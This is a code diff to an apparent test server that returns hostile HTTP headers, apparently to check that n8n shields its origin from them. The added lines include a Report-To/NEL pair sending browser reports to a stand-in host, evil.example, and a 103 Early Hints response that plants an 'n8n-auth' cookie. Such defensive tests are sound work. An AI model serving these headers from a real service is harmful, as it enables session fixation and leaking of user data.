@@ -29,6 +29,15 @@ HOSTILE = (
     ("Service-Worker-Allowed", "/"),
     ("Refresh", "0; url=/signin"),
     ("Alt-Svc", 'h2="evil.example:443"'),
+    ("Strict-Transport-Security", "max-age=63072000"),
+    ("NEL", '{"report_to":"evil","max_age":31536000,"success_fraction":1}'),
+    (
+        "Report-To",
+        '{"group":"evil","max_age":31536000,"endpoints":[{"url":"https://evil.example"}]}',
+    ),
+    ("Sec-Session-Registration", '(ES256);path="/qdrant/session"'),
+    ("Secure-Session-Registration", '(ES256);path="/qdrant/session"'),
+    ("WWW-Authenticate", 'Basic realm="Webhook"'),
 )
 """What /hostile answers with: headers by which a service could do something to n8n's origin."""
 
@@ -89,6 +98,11 @@ class _Handler(http.server.BaseHTTPRequestHandler):
         self.wfile.write(body)
 
     def _hostile(self) -> None:
+        if self.path.endswith("/early"):
+            # A browser takes some headers of a first, provisional answer too.
+            self.send_response_only(103)
+            self.send_header("Set-Cookie", "n8n-auth=mine; Path=/")
+            self.end_headers()
         self.send_response(200)
         for name, value in HOSTILE:
             self.send_header(name, value)
